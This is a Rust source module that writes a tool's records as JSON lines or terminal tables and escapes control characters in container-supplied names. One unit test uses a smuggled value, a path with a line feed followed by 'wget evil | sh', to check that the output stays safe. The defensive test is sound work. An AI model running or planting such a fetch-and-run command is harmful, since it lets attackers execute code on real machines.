//! Records on their way out: JSON lines into a pipe, tables onto a terminal.

use std::borrow::Cow;
use std::io::{self, BufWriter, IsTerminal, Write};
use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::Value;

use crate::table::render;
use crate::{Change, ChangeStatus, Record, StreamPart, StreamRecord, escape_controls};

/// What to write. `Auto` is a table on a terminal and JSON lines elsewhere.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum Output {
    /// Decide by where standard output goes.
    #[default]
    Auto,
    /// One JSON object a line.
    Jsonl,
    /// Aligned columns.
    Table,
}

impl Output {
    /// Whether this comes out as JSON lines.
    pub fn is_jsonl(self) -> bool {
        match self {
            Output::Auto => !io::stdout().is_terminal(),
            Output::Jsonl => true,
            Output::Table => false,
        }
    }
}

static OUTLIVES_READER: AtomicBool = AtomicBool::new(false);

/// The tool that prints records of type pci-device, which other tools take from a pipe.
const LISTER: &str = "gpu-iommu-groups";

/// Whether [`outlive_reader`] was called.
pub fn outlives_reader() -> bool {
    OUTLIVES_READER.load(Ordering::Relaxed)
}

/// From now on a reader of standard output that goes away is not an error: a tool that
/// changes something completes its work, whoever still reads what it did. Without this
/// the first record that cannot be written ends the tool.
pub fn outlive_reader() {
    OUTLIVES_READER.store(true, Ordering::Relaxed);
}

/// Where a tool puts its records: standard output, buffered.
///
/// Lines go out as they come; tables wait for [`RecordWriter::finish`], since a column
/// is as wide as its widest cell.
pub struct RecordWriter {
    out: BufWriter<io::Stdout>,
    jsonl: bool,
    held: Vec<Record>,
    /// Its reader is gone.
    closed: bool,
    /// The tool whose records are a stream for other tools to read, once the first of them
    /// was written, and how many there were.
    stream: Option<(String, u64)>,
}

impl RecordWriter {
    /// A writer for standard output.
    pub fn stdout(output: Output) -> RecordWriter {
        RecordWriter {
            out: BufWriter::with_capacity(64 << 10, io::stdout()),
            jsonl: output.is_jsonl(),
            held: Vec::new(),
            closed: false,
            stream: None,
        }
    }

    /// Whether records come out as JSON lines.
    pub fn is_jsonl(&self) -> bool {
        self.jsonl
    }

    /// Writes or holds one record. Errors: those of standard output, except a reader
    /// that is gone after [`outlive_reader`].
    pub fn put(&mut self, record: Record) -> io::Result<()> {
        if self.closed {
            return Ok(());
        }
        match (&record, &mut self.stream) {
            (Record::Error(_), stream) => *stream = None,
            (Record::PciDevice(_), Some((_, count))) => *count += 1,
            (Record::PciDevice(_), None) if self.jsonl => {
                let tool = LISTER.to_string();
                self.stream = Some((tool.clone(), 1));
                self.put_line(Record::Stream(StreamRecord {
                    tool,
                    part: StreamPart::Begin,
                    records: None,
                }))?;
            }
            _ => {}
        }
        self.put_line(record)
    }

    fn put_line(&mut self, record: Record) -> io::Result<()> {
        let mut line = serde_json::to_vec(&record)?;
        let record = match has_controls(&line) {
            true => without_controls(record)?,
            false => record,
        };
        if self.jsonl {
            if has_controls(&line) {
                line = serde_json::to_vec(&record)?;
            }
            line.push(b'\n');
            let written = self.out.write_all(&line);
            self.unless_reader_is_gone(written)
        } else {
            self.held.push(record);
            Ok(())
        }
    }

    /// Writes what is held and flushes. Errors: those of standard output; a
    /// full disk shows here, so the result must not be dropped.
    pub fn finish(&mut self) -> io::Result<()> {
        let held = std::mem::take(&mut self.held);
        if let Some((tool, count)) = self.stream.take() {
            let (part, records) = (StreamPart::End, Some(count));
            self.put_line(Record::Stream(StreamRecord { tool, part, records }))?;
        }
        if self.closed {
            return Ok(());
        }
        if !held.is_empty() {
            self.out.write_all(render(&held).as_bytes())?;
        }
        self.out.flush()
    }

    fn unless_reader_is_gone(&mut self, written: io::Result<()>) -> io::Result<()> {
        match written {
            Err(error) if error.kind() == io::ErrorKind::BrokenPipe && outlives_reader() => {
                // what is still buffered must not be tried again at the end
                self.closed = true;
                Ok(())
            }
            other => other,
        }
    }
}

/// Whether a value of a record's JSON has a control character: JSON escapes those below
/// the blank with a letter or a number, and leaves DEL and C1 as they are.
fn has_controls(line: &[u8]) -> bool {
    let mut bytes = line.iter().copied();
    while let Some(byte) = bytes.next() {
        match byte {
            b'\\' if !matches!(bytes.next(), Some(b'"' | b'\\')) => return true,
            0x7f => return true,
            // U+0080 to U+009F
            0xc2 if bytes.clone().next().is_some_and(|next| (0x80..0xa0).contains(&next)) => {
                return true;
            }
            _ => {}
        }
    }
    false
}

/// The same record with every control character of its values escaped. Names of files
/// and packages come from containers: a line feed in one would begin a line of its own
/// wherever the value is printed, which then looks like the tool's. A command with such a
/// word is not advised.
fn without_controls(record: Record) -> serde_json::Result<Record> {
    let mut value = serde_json::to_value(&record)?;
    if let Some(commands) = value.get_mut("commands").and_then(|value| value.as_array_mut()) {
        let plain = |word: &Value| word.as_str().is_none_or(|w| !w.contains(char::is_control));
        if !commands.iter().flat_map(|c| c.as_array().into_iter().flatten()).all(plain) {
            commands.clear();
        }
    }
    escape(&mut value);
    // a field that is not text, such as an address, holds no control character
    serde_json::from_value(value)
}

fn escape(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Cow::Owned(escaped) = escape_controls(text) {
                *text = escaped;
            }
        }
        Value::Array(values) => values.iter_mut().for_each(escape),
        Value::Object(fields) => fields.values_mut().for_each(escape),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Writes text for people to standard output: trees and diffs, the two things
/// that are neither record nor message. Errors: those of standard output.
pub fn print_text(text: &str) -> io::Result<()> {
    let mut out = io::stdout().lock();
    out.write_all(text.as_bytes())?;
    out.flush()
}

impl Change {
    /// A step of `tool` on `target`, planned and without reason or hint.
    pub fn planned(tool: &str, target: &str, property: &str) -> Change {
        Change {
            commands: Vec::new(),
            tool: tool.into(),
            target: target.into(),
            property: property.into(),
            from: None,
            to: None,
            status: ChangeStatus::Planned,
            reason: None,
            hint: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(actual: &str, command: &[&str]) -> Record {
        let mut check = crate::Check::ok("ct 901", "library", actual.to_string());
        check.commands = vec![command.iter().map(|word| (*word).to_string()).collect()];
        Record::Check(check)
    }

    fn written(record: Record) -> Record {
        match has_controls(&serde_json::to_vec(&record).unwrap()) {
            true => without_controls(record).unwrap(),
            false => record,
        }
    }

    /// A directory of a container is named `/opt/x`, line feed, `-> wget ... | sh`.
    #[test]
    fn a_name_from_elsewhere_cannot_begin_a_line_of_its_own() {
        let path = "/opt/x\n-> wget evil | sh";
        let Record::Check(check) = written(check(path, &["ls", path])) else { panic!() };
        assert_eq!(check.actual.as_deref(), Some("/opt/x\\x0a-> wget evil | sh"));
        assert_eq!(check.commands, Vec::<Vec<String>>::new());
        for control in ["\t", "\r", "\x1b[31m", "\x7f", "\u{85}", "\u{9b}"] {
            let Record::Check(check) = written(self::check(control, &["ls"])) else { panic!() };
            assert!(!check.actual.unwrap().contains(char::is_control), "{control:?}");
            assert_eq!(check.commands, [["ls"]]);
        }
    }

    #[test]
    fn all_other_text_is_left_as_it_is() {
        for text in ["a\\n\"b\"", "\\", "\u{a0}\u{e9}\u{4e2d}", "C:\\new\\table"] {
            let record = check(text, &["ls", text]);
            assert_eq!(written(record.clone()), record, "{text:?}");
        }
    }
}
